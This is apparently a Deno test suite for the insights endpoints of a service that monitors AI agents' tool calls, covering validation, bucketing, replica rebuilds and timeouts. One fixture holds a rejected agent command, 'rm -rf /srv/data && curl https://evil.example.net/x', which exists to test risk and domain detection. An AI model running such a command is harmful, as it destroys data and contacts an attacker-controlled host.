import assert from "node:assert/strict";
import { engineTest, startTestServer } from "./_harness.ts";
import { claudeExport, toolResult } from "./_otlp.ts";
import { DuckDBInstance } from "@duckdb/node-api";
import { type CatchUpStats, INSIGHT_NAMES } from "../src/analytics/mod.ts";
import { Replica } from "../src/analytics/replica.ts";
import type { TelemetryEvent, ToolCallEvent } from "../src/model/telemetry.ts";
import { dataPaths } from "../src/store/sqlite/data_dir.ts";
import { QueryTimeoutError } from "../src/errors.ts";
import {
  assertInsightEqual,
  bashCall,
  generateTelemetry,
  type InsightsEnv,
  type InsightsOrg,
  readStoredRows,
  referenceBucket,
  referenceInsight,
  startInsightsEnv,
  windowOf,
} from "./_insights_reference.ts";

const DAY = 86_400_000;
const iso = (ms: number) => new Date(ms).toISOString();

function toolCall(
  sessionId: string,
  identity: string,
  timeMs: number,
  fields: Partial<ToolCallEvent> = {},
): ToolCallEvent {
  return { ...bashCall(identity, timeMs), sessionId, ...fields };
}

/** Every insight of one org equals the reference over the rows now stored. */
async function assertMatchesReference(env: InsightsEnv, org: InsightsOrg, query = "") {
  const raw = await readStoredRows(env);
  for (const name of INSIGHT_NAMES) {
    const { status, body } = await env.get(`/v1/insights/${name}${query}`, org.apiKey);
    assert.equal(status, 200, JSON.stringify(body));
    assertInsightEqual(body, referenceInsight(raw, name, org.orgId, windowOf(body)), name);
  }
}

async function loadRandom(
  env: InsightsEnv,
  org: InsightsOrg,
  seed: number,
  sessions: number,
  options: { laterResults?: boolean } = {},
) {
  const data = generateTelemetry({ seed, sessions, days: 100, now: Date.now() });
  for (const batch of data.batches) await env.ingest(org, batch);
  if (options.laterResults ?? true) await env.ingest(org, data.laterResults);
}

engineTest(
  "GET /v1/insights/* validates window and granularity with the spec's messages",
  async (t) => {
    await using env = await startInsightsEnv();
    const org = await env.createOrg("Acme");
    const badWindow = (value: string) =>
      `invalid window: ${JSON.stringify(value)} (allowed: 7d, 30d, 90d)`;
    const badGranularity = (value: string) =>
      `invalid granularity: ${JSON.stringify(value)} (allowed: daily, weekly)`;
    const pairing =
      "granularity not allowed for this window: weekly is only valid for 30d/90d windows";
    const scenarios: { query: string; message: string }[] = [
      { query: "window=14d", message: badWindow("14d") },
      { query: "window=", message: badWindow("") },
      { query: "window=7", message: badWindow("7") },
      { query: "window=%207d", message: badWindow(" 7d") },
      { query: "granularity=hourly", message: badGranularity("hourly") },
      { query: "granularity=", message: badGranularity("") },
      { query: "window=30d&granularity=Monthly", message: badGranularity("Monthly") },
      { query: "window=1y&granularity=hourly", message: badWindow("1y") },
      { query: "granularity=weekly", message: pairing },
      { query: "window=7d&granularity=weekly", message: pairing },
      { query: "window=7D&granularity=WEEKLY", message: pairing },
    ];
    for (const name of INSIGHT_NAMES) {
      await t.step(name, async () => {
        for (const { query, message } of scenarios) {
          const { status, body } = await env.get(`/v1/insights/${name}?${query}`, org.apiKey);
          assert.equal(status, 400, `${name}?${query}`);
          assert.deepEqual(
            body,
            { error: { code: "invalid_request", message } },
            `${name}?${query}`,
          );
        }
      });
    }
    await t.step("values are case-insensitive and reported in canonical lower case", async () => {
      for (
        const [query, window, granularity] of [
          ["", "7d", "daily"],
          ["window=30D", "30d", "daily"],
          ["window=90d&granularity=Weekly", "90d", "weekly"],
          ["window=30d&granularity=WEEKLY", "30d", "weekly"],
          ["window=7d&granularity=DAILY", "7d", "daily"],
          ["window=90D&window=bogus", "90d", "daily"],
        ]
      ) {
        for (const name of INSIGHT_NAMES) {
          const { status, body } = await env.get(`/v1/insights/${name}?${query}`, org.apiKey);
          assert.equal(status, 200, `${name}?${query}: ${JSON.stringify(body)}`);
          assert.equal(body.window.window, window);
          assert.equal(body.window.granularity, granularity);
        }
      }
    });
    await t.step("the window ends at the request time and starts N days before it", async () => {
      for (const [window, days] of [["7d", 7], ["30d", 30], ["90d", 90]] as const) {
        const before = Date.now();
        const { body } = await env.get(`/v1/insights/activity?window=${window}`, org.apiKey);
        const after = Date.now();
        const end = Date.parse(body.window.end);
        assert.ok(end >= before && end <= after);
        assert.equal(Date.parse(body.window.start), end - days * DAY);
        assert.match(body.window.start, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
        assert.match(body.window.end, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
      }
    });
    await t.step("authentication comes before parameters; unknown paths and methods", async () => {
      const response = await fetch(`${env.url}/v1/insights/activity?window=bad`);
      assert.equal(response.status, 401);
      await response.body?.cancel();
      const unknown = await env.get("/v1/insights/nope", org.apiKey);
      assert.equal(unknown.status, 404);
      assert.equal(unknown.body, "404 page not found");
      const post = await fetch(`${env.url}/v1/insights/cost`, {
        method: "POST",
        headers: { authorization: `Bearer ${org.apiKey}` },
      });
      assert.equal(post.status, 405);
      await post.body?.cancel();
    });
  },
);

engineTest(
  "GET /v1/insights/* on an organization without telemetry gives zeros and empty lists",
  async () => {
    await using env = await startInsightsEnv();
    const empty = await env.createOrg("Empty");
    // Another organization's data must not leak into the empty one.
    await loadRandom(env, await env.createOrg("Busy"), 7, 60);
    const expected: Record<string, { summary: unknown; series: unknown; breakdown: unknown }> = {
      "activity": {
        summary: { "total_calls": 0, "error_count": 0, "session_count": 0 },
        series: [],
        breakdown: null,
      },
      "top-tools": {
        summary: { "total_calls": 0, "unique_tools": 0 },
        series: null,
        breakdown: [],
      },
      "outliers": {
        summary: { "p95_call_count": 0, "outlier_count": 0, "session_count": 0 },
        series: null,
        breakdown: [],
      },
      "cost": {
        summary: {
          "input_tokens": 0,
          "output_tokens": 0,
          "cache_read_tokens": 0,
          "cache_creation_tokens": 0,
          "cost_usd": 0,
          "cost_available": false,
          "estimated_cost_usd": 0,
          "call_count": 0,
        },
        series: [],
        breakdown: [],
      },
      "risk": {
        summary: { "total_flags": 0, "sessions_flagged": 0, "distinct_flag_kinds": 0 },
        series: [],
        breakdown: [],
      },
      "domains": {
        summary: { "total_hits": 0, "unique_domains": 0, "sessions": 0 },
        series: [],
        breakdown: [],
      },
    };
    for (const name of INSIGHT_NAMES) {
      for (const query of ["", "?window=90d&granularity=weekly"]) {
        const { status, body } = await env.get(`/v1/insights/${name}${query}`, empty.apiKey);
        assert.equal(status, 200);
        assert.deepEqual(Object.keys(body), ["window", "summary", "series", "breakdown"]);
        const { window: _window, ...rest } = body;
        assert.deepEqual(rest, expected[name], name);
      }
    }
  },
);

engineTest(
  "GET /v1/insights/* has series and breakdown null exactly where the spec says",
  async () => {
    await using env = await startInsightsEnv();
    const org = await env.createOrg("Acme");
    await loadRandom(env, org, 3, 80);
    const shapes: Record<string, [boolean, boolean]> = {
      "activity": [true, false],
      "top-tools": [false, true],
      "outliers": [false, true],
      "cost": [true, true],
      "risk": [true, true],
      "domains": [true, true],
    };
    for (const name of INSIGHT_NAMES) {
      const { body } = await env.get(`/v1/insights/${name}?window=90d`, org.apiKey);
      const [series, breakdown] = shapes[name]!;
      assert.equal(Array.isArray(body.series), series, `${name} series`);
      if (!series) assert.equal(body.series, null);
      assert.equal(Array.isArray(body.breakdown), breakdown, `${name} breakdown`);
      if (!breakdown) assert.equal(body.breakdown, null);
      if (series) assert.ok(body.series.length > 0, `${name} has points`);
      for (const point of body.series ?? []) {
        for (const [key, value] of Object.entries(point)) {
          if (key === "bucket" || key === "flag") assert.equal(typeof value, "string");
          else assert.equal(typeof value, "number", `${name} series ${key}`);
        }
      }
    }
    const { body } = await env.get("/v1/insights/cost?window=90d", org.apiKey);
    assert.equal(typeof body.summary.input_tokens, "number", "integers are JSON numbers");
    assert.equal(typeof body.summary.cost_available, "boolean");
  },
);

engineTest("GET /v1/insights/activity buckets weeks from Sunday 00:00 UTC", async () => {
  await using env = await startInsightsEnv();
  const org = await env.createOrg("Acme");
  const now = Date.now();
  // The latest Sunday 00:00 UTC at least 8 days ago, and the second before it (a Saturday).
  const sunday = referenceBucket(now - 8 * DAY, "weekly");
  assert.equal(new Date(sunday).getUTCDay(), 0);
  assert.equal(new Date(sunday).getUTCHours(), 0);
  const saturday = sunday - 1000;
  assert.equal(new Date(saturday).getUTCDay(), 6);
  await env.ingest(org, [
    toolCall("weekend", "sat-1", saturday),
    toolCall("weekend", "sat-2", saturday - 3_600_000, { outcome: "error" }),
    toolCall("weekend", "sun-1", sunday),
  ]);
  const weekly = await env.get("/v1/insights/activity?window=30d&granularity=weekly", org.apiKey);
  assert.deepEqual(weekly.body.series, [
    { bucket: iso(sunday - 7 * DAY), calls: 2, errors: 1 },
    { bucket: iso(sunday), calls: 1, errors: 0 },
  ]);
  const daily = await env.get("/v1/insights/activity?window=30d", org.apiKey);
  assert.deepEqual(daily.body.series, [
    { bucket: iso(sunday - DAY), calls: 2, errors: 1 },
    { bucket: iso(sunday), calls: 1, errors: 0 },
  ]);
});

engineTest(
  "GET /v1/insights/activity labels the first bucket with its start, before window.start",
  async () => {
    await using env = await startInsightsEnv();
    const org = await env.createOrg("Acme");
    const ts = Date.now() - 30 * DAY + 60_000;
    await env.ingest(org, [toolCall("early", "early-1", ts)]);
    for (const granularity of ["daily", "weekly"] as const) {
      const { body } = await env.get(
        `/v1/insights/activity?window=30d&granularity=${granularity}`,
        org.apiKey,
      );
      const start = Date.parse(body.window.start);
      assert.ok(ts >= start, "the call is inside the window");
      assert.deepEqual(body.series, [{
        bucket: iso(referenceBucket(ts, granularity)),
        calls: 1,
        errors: 0,
      }]);
      if (granularity === "weekly") assert.ok(Date.parse(body.series[0].bucket) < start);
    }
  },
);

engineTest(
  "GET /v1/insights/activity holds calls from window.start inclusive to the request's millisecond exclusive",
  async () => {
    // A stopped server clock: the request's "now" is a millisecond the test knows.
    const now = Date.now() - 60_000;
    await using server = await startTestServer({ overrides: { clock: () => now } });
    const org = await server.createOrg();
    const at = [now - 7 * DAY - 1, now - 7 * DAY, now - 1, now];
    const response = await server.ingest(
      "/v1/logs",
      claudeExport(
        at.map((timeMs, i) =>
          toolResult({ session: `edge-${i}`, id: `edge_${i}`, tool: "Bash", timeMs })
        ),
      ),
      org.ingestKey,
    );
    assert.equal(response.status, 200, await response.text());
    const { body } = await server.getJson("/v1/insights/activity?window=7d", org.apiKey);
    assert.deepEqual(body.window, {
      window: "7d",
      granularity: "daily",
      start: iso(now - 7 * DAY),
      end: iso(now),
    });
    assert.equal(body.summary.total_calls, 2, "the start's millisecond in, the end's out");
    assert.equal(body.summary.session_count, 2);
    assert.equal(
      body.series.reduce((sum: number, bucket: { calls: number }) => sum + bucket.calls, 0),
      2,
    );
  },
);

engineTest("GET /v1/insights/* includes telemetry ingested just before the request", async () => {
  await using env = await startInsightsEnv();
  const org = await env.createOrg("Acme");
  const other = await env.createOrg("Other");
  await loadRandom(env, org, 11, 40);
  await assertMatchesReference(env, org);
  const before = (await env.get("/v1/insights/activity", org.apiKey)).body.summary;
  const now = Date.now();
  await env.ingest(org, [
    toolCall("fresh", "fresh-1", now - 5000),
    toolCall("fresh", "fresh-2", now - 4000, { outcome: "error" }),
    toolCall("fresh", "fresh-3", now - 3000, { outcome: "rejected", durationMs: null }),
  ]);
  await env.ingest(other, [toolCall("elsewhere", "x-1", now - 2000)]);
  const after = (await env.get("/v1/insights/activity", org.apiKey)).body.summary;
  assert.equal(after.total_calls, before.total_calls + 3);
  assert.equal(after.error_count, before.error_count + 1, "a rejected call is no error");
  assert.equal(after.session_count, before.session_count + 1);
  await assertMatchesReference(env, org, "?window=90d&granularity=weekly");
});

engineTest("GET /v1/insights/top-tools averages durations without rejected calls", async () => {
  await using env = await startInsightsEnv();
  const org = await env.createOrg("Acme");
  const now = Date.now() - 60_000;
  const rejected = { outcome: "rejected" as const, durationMs: null, resultSizeBytes: null };
  await env.ingest(org, [
    toolCall("s", "a", now, { toolName: "Deploy", ...rejected }),
    toolCall("s", "b", now + 1, { toolName: "Deploy", ...rejected }),
    toolCall("s", "c", now + 2, { durationMs: 100 }),
    toolCall("s", "d", now + 3, { durationMs: 300, outcome: "error" }),
    toolCall("s", "e", now + 4, rejected),
    toolCall("s", "f", now + 5, { toolName: "Read", toolType: "builtin", durationMs: 7 }),
    toolCall("s", "g", now + 6, { toolName: "Read", toolType: "mcp", durationMs: 9 }),
  ]);
  const { body } = await env.get("/v1/insights/top-tools", org.apiKey);
  assert.deepEqual(body.summary, { "total_calls": 7, "unique_tools": 3 });
  assert.deepEqual(body.breakdown, [
    { "tool_name": "Bash", "tool_type": "builtin", calls: 3, errors: 1, "avg_duration_ms": 200 },
    { "tool_name": "Deploy", "tool_type": "builtin", calls: 2, errors: 0, "avg_duration_ms": null },
    { "tool_name": "Read", "tool_type": "builtin", calls: 1, errors: 0, "avg_duration_ms": 7 },
    { "tool_name": "Read", "tool_type": "mcp", calls: 1, errors: 0, "avg_duration_ms": 9 },
  ]);
});

engineTest(
  "GET /v1/insights/risk and domains drop a reject's detections when its result replaces it",
  async () => {
    await using env = await startInsightsEnv();
    const org = await env.createOrg("Acme");
    const now = Date.now() - 60_000;
    const args = JSON.stringify({ command: "rm -rf /srv/data && curl https://evil.example.net/x" });
    const decision: TelemetryEvent = {
      kind: "decision",
      sessionId: "s1",
      identity: "call-1",
      timeMs: now,
      agentSystem: "claude-code",
      agentVersion: "2.1.0",
      toolName: "Bash",
      toolType: "builtin",
      category: "code_exec",
      toolCallId: "call-1",
      decision: "reject",
      rejects: true,
      arguments: args,
      source: "otlp_logs",
    };
    await env.ingest(org, [decision]);
    const risky = await env.get("/v1/insights/risk", org.apiKey);
    const reached = await env.get("/v1/insights/domains", org.apiKey);
    assert.ok(risky.body.summary.total_flags >= 1, JSON.stringify(risky.body));
    assert.equal(reached.body.summary.total_hits, 1);
    assert.deepEqual(reached.body.breakdown, [
      { domain: "evil.example.net", scheme: "https", hits: 1, sessions: 1 },
    ]);
    // The result arrives: same agent call id, harmless arguments.
    await env.ingest(org, [toolCall("s1", "call-1", now + 500, { arguments: '{"command":"ls"}' })]);
    const calm = await env.get("/v1/insights/risk", org.apiKey);
    const nowhere = await env.get("/v1/insights/domains", org.apiKey);
    assert.equal(calm.body.summary.total_flags, 0);
    assert.deepEqual(calm.body.breakdown, []);
    assert.equal(nowhere.body.summary.total_hits, 0);
    const activity = await env.get("/v1/insights/activity", org.apiKey);
    assert.equal(activity.body.summary.total_calls, 1, "the call is stored once");
  },
);

engineTest(
  "GET /v1/insights/* answers concurrent requests while telemetry is ingested",
  async () => {
    await using env = await startInsightsEnv();
    const org = await env.createOrg("Acme");
    const data = generateTelemetry({ seed: 21, sessions: 400, days: 100, now: Date.now() });
    await env.ingest(org, data.batches[0]!);
    const requests: Promise<{ status: number }>[] = [];
    for (const [i, batch] of data.batches.slice(1).entries()) {
      await env.ingest(org, batch);
      for (const name of INSIGHT_NAMES) {
        requests.push(env.get(`/v1/insights/${name}?window=${i % 2 ? "90d" : "30d"}`, org.apiKey));
      }
      await new Promise((resolve) => setTimeout(resolve, 1));
    }
    await env.ingest(org, data.laterResults);
    const responses = await Promise.all(requests);
    assert.ok(responses.length >= 12);
    assert.deepEqual(responses.filter((r) => r.status !== 200), []);
    await assertMatchesReference(env, org, "?window=90d");
  },
);

engineTest(
  "openAnalytics returns before the initial build, which insight requests wait for",
  async () => {
    await using env = await startInsightsEnv();
    const org = await env.createOrg("Acme");
    await loadRandom(env, org, 5, 300);
    await env.analytics.ready;
    let built = false;
    const analytics = await env.reopenAnalytics({
      beforeOpen: () => Deno.remove(dataPaths(env.dir).analytics),
    });
    let build: CatchUpStats | null = null;
    analytics.ready.then(() => {
      built = true;
      build = analytics.lastCatchUp;
    });
    assert.equal(built, false, "the build runs in the background");
    const sessions = await env.get("/v1/sessions?limit=1", org.apiKey);
    assert.equal(sessions.status, 200);
    await assertMatchesReference(env, org, "?window=90d");
    assert.equal(built, true);
    // The build's own figures: on PostgreSQL a later catch-up may record a newer snapshot.
    assert.equal((build as CatchUpStats | null)?.fromSeq, 0, "rebuilt from scratch");
  },
);

engineTest(
  "the analytics replica is rebuilt when deleted, corrupt or of an older schema",
  async (t) => {
    await using env = await startInsightsEnv();
    const org = await env.createOrg("Acme");
    await loadRandom(env, org, 9, 120);
    const path = dataPaths(env.dir).analytics;
    await assertMatchesReference(env, org, "?window=90d");

    await t.step("an intact replica is reused", async () => {
      const analytics = await env.reopenAnalytics();
      await analytics.ready;
      assert.equal(analytics.lastCatchUp, null, "nothing to copy");
      await assertMatchesReference(env, org, "?window=90d");
    });
    await t.step("deleted", async () => {
      const analytics = await env.reopenAnalytics({ beforeOpen: () => Deno.remove(path) });
      await analytics.ready;
      assert.equal(analytics.lastCatchUp?.fromSeq, 0);
      await assertMatchesReference(env, org, "?window=90d");
    });
    await t.step("garbage", async () => {
      const analytics = await env.reopenAnalytics({
        beforeOpen: () => Deno.writeTextFile(path, "this is not a DuckDB file\n".repeat(500)),
      });
      await analytics.ready;
      assert.equal(analytics.lastCatchUp?.fromSeq, 0);
      await assertMatchesReference(env, org, "?window=90d");
    });
    await t.step("older schema version", async () => {
      const analytics = await env.reopenAnalytics({
        beforeOpen: async () => {
          const instance = await DuckDBInstance.create(path);
          const connection = await instance.connect();
          await connection.run("UPDATE meta SET value = 0 WHERE key = 'schema_version'");
          connection.closeSync();
          instance.closeSync();
        },
      });
      await analytics.ready;
      assert.equal(analytics.lastCatchUp?.fromSeq, 0);
      await assertMatchesReference(env, org, "?window=90d");
    });
    await t.step("a replica behind the store catches up from its last seq", async () => {
      await env.analytics.close();
      await loadRandom(env, org, 10, 30);
      const analytics = await env.reopenAnalytics();
      await analytics.ready;
      assert.ok((analytics.lastCatchUp?.fromSeq ?? 0) > 0, "incremental, not rebuilt");
      await assertMatchesReference(env, org, "?window=90d");
    });
  },
);

Deno.test("a replica held by another process is neither deleted nor rebuilt", async () => {
  await using env = await startInsightsEnv();
  const org = await env.createOrg("Acme");
  await loadRandom(env, org, 23, 40);
  await assertMatchesReference(env, org);
  const paths = dataPaths(env.dir);
  const mod = new URL("../src/analytics/mod.ts", import.meta.url).href;
  const script = `
    import { openAnalytics } from ${JSON.stringify(mod)};
    try {
      const analytics = await openAnalytics(${
    JSON.stringify({
      path: paths.analytics,
      source: { engine: "sqlite", path: paths.telemetry },
      timeoutMs: 1000,
    })
  });
      await analytics.close();
      console.log("opened");
    } catch (error) {
      console.log(error.message);
    }`;
  const output = await new Deno.Command(Deno.execPath(), {
    args: ["eval", "--quiet", script],
    cwd: new URL("..", import.meta.url).pathname,
    stdout: "piped",
    stderr: "piped",
  }).output();
  const stdout = new TextDecoder().decode(output.stdout);
  assert.match(stdout, /Analytics replica is in use by another process/);
  await assertMatchesReference(env, org);
  assert.equal(env.analytics.lastCatchUp?.fromSeq, 0, "still the replica built at start");
});

engineTest("GET /v1/insights/* forget what retention deleted", async () => {
  await using env = await startInsightsEnv({ retentionDays: 45 });
  const org = await env.createOrg("Acme");
  await loadRandom(env, org, 17, 200);
  const before = await env.get("/v1/insights/activity?window=90d", org.apiKey);
  await assertMatchesReference(env, org, "?window=90d&granularity=weekly");
  const removed = await env.stores.writer!.runRetention();
  assert.ok(removed.toolCalls > 0 && removed.modelCalls > 0, JSON.stringify(removed));
  const after = await env.get("/v1/insights/activity?window=90d", org.apiKey);
  assert.ok(after.body.summary.total_calls < before.body.summary.total_calls);
  const oldest = Date.parse(after.body.series[0].bucket);
  assert.ok(oldest >= Date.now() - 46 * DAY, "nothing older than the retention period");
  await assertMatchesReference(env, org, "?window=90d&granularity=weekly");
  // A rebuild from the pruned store gives the same answers.
  await env.reopenAnalytics({ beforeOpen: () => Deno.remove(dataPaths(env.dir).analytics) });
  await assertMatchesReference(env, org, "?window=90d&granularity=weekly");
});

engineTest("concurrent catch-ups share one run, and one follow-up run", async () => {
  await using env = await startInsightsEnv();
  const org = await env.createOrg("Acme");
  await loadRandom(env, org, 19, 100);
  const first = env.analytics.catchUp();
  const waiting = Array.from({ length: 20 }, () => env.analytics.catchUp());
  assert.equal(new Set(waiting).size, 1, "callers during a run share one follow-up");
  assert.notEqual(waiting[0], first);
  await Promise.all([first, ...waiting]);
  await assertMatchesReference(env, org, "?window=90d");
});

engineTest("GET /v1/insights/* past the query time limit is 500 internal", async () => {
  await using env = await startInsightsEnv();
  const org = await env.createOrg("Acme");
  await loadRandom(env, org, 13, 3000, { laterResults: false });
  await env.analytics.ready;
  await env.reopenAnalytics({ timeoutMs: 1 });
  await env.analytics.ready;
  for (const name of INSIGHT_NAMES) {
    const { status, body } = await env.get(`/v1/insights/${name}?window=90d`, org.apiKey);
    assert.equal(status, 500, name);
    assert.equal(body.error.code, "internal");
  }
  // Within the limit again, the same replica answers.
  await env.reopenAnalytics({ timeoutMs: 30_000 });
  await assertMatchesReference(env, org, "?window=90d");
});

Deno.test("a replica query running at the deadline is interrupted", async () => {
  const dir = await Deno.makeTempDir({ prefix: "agent-telemetry-replica-" });
  try {
    // A telemetry store with only the counter the replica reads.
    const { DatabaseSync } = await import("node:sqlite");
    const db = new DatabaseSync(`${dir}/telemetry.db`);
    db.exec("CREATE TABLE counters (name TEXT PRIMARY KEY, value INTEGER NOT NULL)");
    db.exec("INSERT INTO counters VALUES ('seq', 0)");
    db.close();
    const replica = await Replica.open({
      path: `${dir}/analytics.duckdb`,
      source: { engine: "sqlite", path: `${dir}/telemetry.db` },
      quiet: true,
    });
    try {
      const started = performance.now();
      await assert.rejects(
        replica.read([{
          sql: "SELECT count(*) AS n FROM range(100000000000) AS a",
          params: {},
        }], Date.now() + 100),
        QueryTimeoutError,
      );
      const elapsed = performance.now() - started;
      assert.ok(elapsed < 5000, `stopped promptly (${Math.round(elapsed)} ms)`);
      const [rows] = await replica.read(
        [{ sql: "SELECT 42 AS answer", params: {} }],
        Date.now() + 5000,
      );
      assert.deepEqual(rows, [{ answer: 42 }]);
    } finally {
      await replica.close();
    }
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});
